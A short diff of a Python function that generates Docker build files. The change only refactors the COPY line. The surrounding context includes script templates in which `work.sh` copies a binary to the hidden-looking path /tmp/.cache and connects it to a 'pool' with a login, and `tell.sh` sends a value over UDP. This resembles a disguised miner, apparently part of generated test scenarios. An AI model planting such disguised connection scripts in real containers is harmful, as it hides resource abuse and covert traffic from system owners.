@@ -148,7 +148,8 @@ def _build(stage: Stage, word: str, comment: str) -> str:
         "work.sh": 'cp /usr/bin/probe /tmp/.cache && /tmp/.cache tcp $POOL $PORT "$LOGIN"\n',
         "tell.sh": f"{comment}/tmp/.cache udp $POOL {UDP_PORT} $WORD\n",
     }
-    dockerfile = f'FROM {_BASE}\nCOPY run.sh pool.conf work.sh tell.sh /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
+    copied = " ".join(files)
+    dockerfile = f'FROM {_BASE}\nCOPY {copied} /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
     dockerfile = (
         f'FROM {_BASE}\nCOPY {" ".join(files)} /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
     )
